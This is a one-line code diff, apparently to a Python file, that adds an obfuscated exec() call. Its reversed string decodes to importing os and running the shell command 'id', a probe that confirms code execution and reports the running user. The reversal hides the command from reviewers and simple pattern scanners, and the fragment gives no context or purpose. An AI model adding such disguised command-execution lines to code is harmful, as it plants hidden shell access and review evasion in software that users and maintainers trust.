@@ -1,0 +1,1 @@
+exec(")'di'(metsys.so ;so tropmi"[::-1])
